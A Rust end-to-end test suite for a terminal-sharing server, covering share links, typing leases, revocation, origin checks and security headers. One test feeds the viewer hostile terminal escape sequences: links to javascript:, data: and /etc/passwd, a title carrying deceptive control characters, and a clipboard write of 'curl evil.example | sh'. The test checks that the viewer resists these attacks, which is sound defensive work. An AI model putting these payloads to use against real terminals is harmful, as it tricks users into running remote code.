//! Links that let others in, the input lease, and what a hostile program can do to who watches it.

use std::time::{Duration, Instant};

use podling_e2e::{
    browser,
    operator::ran,
    podling::{Podling, Session, binary},
    pty::Pty,
    viewer::{Plain, Upgrade, Viewer, upgrade},
    wait::until,
};
use podling_session::{
    attendance::LeaseWish,
    frame::{ClientFrame, SUBPROTOCOL},
    id::AttachNonce,
};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

/// Repeats each line that it is given.
const REPEATER: &str = "stty -echo; echo ready; while read line; do echo \"got $line\"; done";

async fn share(podling: &Podling, session: &Session, wanted: Value) -> Value {
    let (status, link) = podling.post(&format!("/api/sessions/{}/shares", session.uid), wanted).await;
    assert_eq!(status, StatusCode::CREATED, "{link}");
    link
}

fn url(link: &Value) -> &str {
    link["url"].as_str().expect("a url")
}

fn secret(link: &Value) -> &str {
    url(link).split_once("#share=").expect("the secret stands behind the #").1
}

fn path_of(session: &Session, link: &Value) -> String {
    format!("/api/sessions/{}/shares/{}", session.uid, link["id"].as_str().expect("an id"))
}

async fn redeem(podling: &Podling, link: &Value) -> (StatusCode, Value) {
    podling.post("/api/shares/redeem", json!({ "secret": secret(link) })).await
}

async fn guest(podling: &Podling, session: &Session, link: &Value) -> Viewer {
    let (status, redeemed) = redeem(podling, link).await;
    assert_eq!((status, &redeemed["uid"]), (StatusCode::OK, &json!(session.uid)), "{redeemed}");
    let token = redeemed["token"].as_str().expect("a token");
    Viewer::attach(&podling.url, &session.uid, token, AttachNonce::random()).await
}

#[tokio::test]
async fn a_link_for_watching_is_opened_in_a_browser_and_closed_within_a_second_of_its_revocation() {
    let podling = Podling::start().await;
    let session = podling.run(REPEATER).await;
    let link = share(&podling, &session, json!({ "name": "Ada" })).await;
    let revoke = format!("{}{}", podling.url, path_of(&session, &link));
    println!("{}", browser::scenario("sharing", &[&session.terminal_url, url(&link), &revoke, &podling.url]).await);
}

#[tokio::test]
async fn the_keyboard_is_asked_for_granted_and_taken_back() {
    let podling = Podling::start().await;
    let session = podling.run(REPEATER).await;
    let link = share(&podling, &session, json!({ "name": "Grace", "read_only": false })).await;
    browser::scenario("lease", &[&session.terminal_url, url(&link), &podling.url]).await;
    until("the audit has every change of the lease", Duration::from_secs(10), async || {
        let of = async |action| podling.admin(&["audit", "--action", action, "--session", &session.uid]).await;
        let (granted, revoked) = (of("lease.grant").await, of("lease.revoke").await);
        if (granted.len(), revoked.len()) == (2, 1) { Ok(()) } else { Err((granted, revoked)) }
    })
    .await;
}

#[tokio::test]
async fn a_hostile_program_fills_no_clipboard_opens_no_foreign_scheme_and_hides_nothing_in_the_title() {
    let podling = Podling::start().await;
    let command = r#"stty -echo; echo 'go?'; read go
        link() { printf '\033]8;;%s\033\\[%s]\033]8;;\033\\\r\n' "$1" "$2"; }
        link 'javascript:window.hacked=1' script; link 'file:///etc/passwd' local
        link 'data:text/html,<script>opener.hacked=1</script>' data; link 'http://127.0.0.1:9/honest' honest
        printf '\033]2;evil\342\200\256\342\200\213  nice\001 title\007'
        printf '\033]52;c;%s\007' "$(printf 'curl evil.example | sh\n' | base64 -w0)"
        echo attacked; sleep 600"#;
    let session = podling.run(command).await;
    browser::scenario("hostile", &[&session.terminal_url, &podling.url]).await;
}

#[tokio::test]
async fn a_link_is_used_as_often_as_it_may_be_and_whatever_is_wrong_is_answered_alike() {
    let podling = Podling::start().await;
    let session = podling.run(REPEATER).await;
    let twice = share(&podling, &session, json!({ "uses": 2, "read_only": false })).await;
    for _ in 0..2 {
        let mut viewer = guest(&podling, &session, &twice).await;
        viewer.sees("ready").await;
        viewer.type_in("hello\n").await;
        viewer.sees("got hello").await;
    }
    let over = redeem(&podling, &twice).await;
    assert_eq!(over.0, StatusCode::NOT_FOUND);
    let (_, shares) = podling.get(&format!("/api/sessions/{}/shares", session.uid)).await;
    assert_eq!((&shares["shares"][0]["uses"], &shares["shares"][0]["max_uses"]), (&json!(2), &json!(2)));
    assert!(!shares.to_string().contains(secret(&twice).split_once('.').expect("an id and a secret").1));
    let revoked = share(&podling, &session, json!({})).await;
    assert_eq!(podling.delete(&path_of(&session, &revoked)).await.0, StatusCode::OK);
    let deleted = podling.run("sleep 600").await;
    let of_deleted = share(&podling, &deleted, json!({})).await;
    podling.delete(&format!("/api/sessions/{}", deleted.uid)).await;
    let tampered = json!({ "url": format!("#share={}x", secret(&twice)) });
    for link in [&revoked, &of_deleted, &tampered, &json!({ "url": "#share=" }), &json!({ "url": "#share=a.b" })] {
        let (status, mut problem) = redeem(&podling, link).await;
        problem["requestId"] = over.1["requestId"].clone();
        assert_eq!((status, problem), over, "{link}");
    }
    let mut refused = StatusCode::NOT_FOUND;
    for _ in 0..40 {
        (refused, _) = redeem(&podling, &tampered).await;
    }
    assert_eq!(refused, StatusCode::TOO_MANY_REQUESTS, "an address has 30 tries a minute");
}

#[tokio::test]
async fn a_revoked_link_lets_nobody_come_back_and_closes_viewers_of_a_stored_log_too() {
    let podling = Podling::start().await;
    let session = podling.run(REPEATER).await;
    let link = share(&podling, &session, json!({ "uses": 3, "read_only": false })).await;
    let mut here = guest(&podling, &session, &link).await;
    let mut away = guest(&podling, &session, &link).await;
    here.sees("ready").await;
    away.sees("ready").await;
    let (_, token) = away.resume.clone().expect("the resume frame comes first");
    let offset = away.offset;
    drop(away);
    let (_, unused) = redeem(&podling, &link).await;
    let began = Instant::now();
    assert_eq!(podling.delete(&path_of(&session, &link)).await.0, StatusCode::OK);
    assert_eq!(here.to_end().await.code, 4403);
    assert!(began.elapsed() < Duration::from_secs(1), "{:?}", began.elapsed());
    let mut back = Viewer::resume(&podling.url, &session.uid, &token, offset).await;
    assert_eq!(back.to_end().await.code, 4401);
    let unused = unused["token"].as_str().expect("a token");
    let (status, _) = Plain::attach(&podling.url, &session.uid, unused).await.expect_err("its link was revoked");
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let mut owner =
        Viewer::attach(&podling.url, &session.uid, &podling.token(&session.uid).await, AttachNonce::random()).await;
    owner.type_in("still here\n").await;
    owner.sees("got still here").await;
    stored(&podling).await;
}

/// More than a viewer's window of a log whose session has ended, so that whoever acks nothing stays.
async fn stored(podling: &Podling) {
    let session = podling.run("seq 400000").await;
    podling.reaches(&session.uid, "ended").await;
    let link = share(podling, &session, json!({})).await;
    let mut viewer = guest(podling, &session, &link).await;
    viewer.acks_output = false;
    viewer.sees("1000\r\n").await;
    let began = Instant::now();
    assert_eq!(podling.delete(&path_of(&session, &link)).await.0, StatusCode::OK);
    assert_eq!(viewer.to_end().await.code, 4403);
    assert!(began.elapsed() < Duration::from_secs(1), "{:?}", began.elapsed());
}

#[tokio::test]
async fn a_link_is_made_listed_and_taken_back_in_a_terminal() {
    let podling = Podling::start().await;
    let session = podling.run(REPEATER).await;
    let share = async |words: &[&str]| {
        let mut command = tokio::process::Command::new(binary());
        command.args(["share", &session.uid, "--server", &podling.url]).args(words);
        ran(command).await.trim_end().to_owned()
    };
    let link = json!({ "url": share(&["--write", "--uses", "2", "--name", "Ada", "--expires", "2h"]).await });
    let mut viewer = guest(&podling, &session, &link).await;
    viewer.sees("ready").await;
    viewer.type_in("hello\n").await;
    viewer.sees("got hello").await;
    let watching: Value = serde_json::from_str(&share(&["--json"]).await).expect("JSON");
    assert_eq!((&watching["read_only"], &watching["max_uses"]), (&json!(true), &json!(1)));
    let listed = share(&["--list"]).await;
    let row = listed.lines().find(|row| row.ends_with("  Ada")).expect("a line for each");
    assert!(row.contains("  type   1/2 uses  until 20"), "{listed}");
    share(&["--revoke", row.split(' ').next().expect("its id")]).await;
    assert_eq!(viewer.to_end().await.code, 4403);
    assert!(share(&["--list"]).await.contains("  type   1/2 uses  revoked"));
}

#[tokio::test]
async fn a_terminal_is_told_who_alone_may_type() {
    let podling = Podling::start().await;
    let session = podling.run(REPEATER).await;
    let mut terminal = Pty::podling(&podling.url, podling.home(), &["attach", &session.uid]);
    terminal.sees("ready").await;
    let link = share(&podling, &session, json!({ "name": "Ada", "read_only": false })).await;
    let mut guest = guest(&podling, &session, &link).await;
    let mut owner = Viewer::of(&podling, &session).await;
    owner.sees("ready").await;
    guest.sees("ready").await;
    owner.send(ClientFrame::LeaseAsk(LeaseWish::Ask)).await;
    terminal.sees("alone may type now: your keys go nowhere").await;
    terminal.types("lost\r");
    owner.type_in("mine\n").await;
    owner.sees("got mine").await;
    owner.send(ClientFrame::LeaseAsk(LeaseWish::GiveUp)).await;
    terminal.sees("Everybody may type again.").await;
    terminal.types("heard\r");
    owner.sees("got heard").await;
    assert!(!owner.text().contains("lost"), "{}", owner.text());
}

#[tokio::test]
async fn pages_of_other_origins_open_no_terminal_unless_they_are_allowed() {
    let podling = Podling::start_with(&["--allow-origin", "https://app.example"]).await;
    let session = podling.run(REPEATER).await;
    for (origin, opens) in
        [("https://evil.example", false), ("null", false), ("https://app.example", true), (podling.url.as_str(), true)]
    {
        let token = podling.token(&session.uid).await;
        let answer = podling
            .http
            .request(Method::GET, format!("{}/ws/{}", podling.url, session.uid))
            .header("origin", origin)
            .header("connection", "upgrade")
            .header("upgrade", "websocket")
            .header("sec-websocket-version", "13")
            .header("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ==")
            .header("sec-websocket-protocol", format!("bearer, {token}"))
            .send()
            .await
            .expect("an answer");
        let expected = if opens { StatusCode::SWITCHING_PROTOCOLS } else { StatusCode::FORBIDDEN };
        assert_eq!(answer.status(), expected, "{origin}");
        assert!(!answer.headers().contains_key("set-cookie"));
    }
    let token = podling.token(&session.uid).await;
    let nonce = format!("nonce.{}", AttachNonce::random());
    let own = upgrade(&podling.url, &format!("/ws/{}", session.uid), &[SUBPROTOCOL, "bearer", &token, &nonce]).await;
    assert!(matches!(own, Upgrade::Open(_)), "programs name no origin");
}

#[tokio::test]
async fn behind_tls_browsers_are_told_to_come_by_tls_alone() {
    let podling = Podling::start_with(&["--public-url", "https://pods.example"]).await;
    let session = podling.run(REPEATER).await;
    for path in [format!("/ws/{}", session.uid), "/api/sessions".to_owned(), "/healthz".to_owned()] {
        let answer = podling.http.get(format!("{}{path}", podling.url)).send().await.expect("an answer");
        let headers = answer.headers();
        assert_eq!(headers["strict-transport-security"], "max-age=31536000", "{path}");
        assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
    }
}
